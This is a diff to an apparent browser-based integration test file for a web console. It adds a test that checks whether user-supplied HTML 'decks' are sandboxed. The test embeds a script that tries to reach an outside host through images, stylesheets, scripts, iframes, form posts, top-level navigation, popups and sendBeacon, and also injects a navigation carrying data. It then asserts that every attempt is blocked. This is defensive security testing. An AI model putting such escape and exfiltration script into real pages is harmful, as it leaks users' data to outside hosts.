@@ -22,6 +22,7 @@ from tests.conftest import S3, new_namespace, s3_beside
 from tests.faults.proxy import FaultProxy
 from tests.integration.console.conftest import PATIENCE
 from tests.integration.console.stored import Json, Keeper, interface_of, serving, values_of_every_type
+from tests.stores.s3 import running_s3
 
 TASK: dict[str, Any] = {"container": {"image": "registry.example/task:v1", "args": ["true"]}}
 SECRET = "what only the other team may see"
@@ -361,6 +362,37 @@ def test_flytekits_deck_works_in_its_frame_and_reaches_nothing(stored: Stored) -
     deck.locator("li", has_text="Frame").click()
     expect(deck.get_by_role("columnheader", name="demand")).to_be_visible()
     page.close()
+
+
+ESCAPE = """<p id="done"></p><script>
+const target = "TARGET";
+new Image().src = `${target}/picture`;
+document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${target}/style` }));
+document.head.append(Object.assign(document.createElement("script"), { src: `${target}/script` }));
+document.body.append(Object.assign(document.createElement("iframe"), { src: `${target}/frame` }));
+const form = Object.assign(document.createElement("form"), { action: `${target}/form`, method: "post" });
+document.body.append(form);
+form.submit();
+const refused = [];
+const tried = (act) => { try { act() } catch (error) { refused.push(error.name) } };
+tried(() => { top.location = `${target}/top` });
+tried(() => { if (open(`${target}/window`) === null) throw new TypeError() });
+navigator.sendBeacon(`${target}/beacon`);
+document.getElementById("done").textContent = `refused: ${refused.join(", ")}`;
+</script>"""
+
+
+def test_a_decks_script_sends_nothing_and_goes_nowhere(stored: Stored) -> None:
+    with running_s3() as elsewhere:
+        stored.keeper.deck(stored.typed, ESCAPE.replace("TARGET", elsewhere.endpoint), attempt=1)
+        stored.keeper.deck(stored.typed, f"<script>location = '{elsewhere.endpoint}/navigation?what=it-knows'</script>", attempt=2)
+        page = stored.page(tab="deck&attempt=1")
+        expect(page.frame_locator("iframe").locator("#done")).to_have_text("refused: SecurityError, TypeError")
+        with page.expect_console_message(lambda message: "frame-src" in message.text):
+            page.goto(f"/executions/{stored.own}/typed?tab=deck&attempt=2")
+        expect(page.get_by_role("heading", name="typed")).to_be_visible()
+        page.close()
+        assert elsewhere.requests == []
 
 
 def test_a_decks_own_address_leads_to_its_page(stored: Stored) -> None:
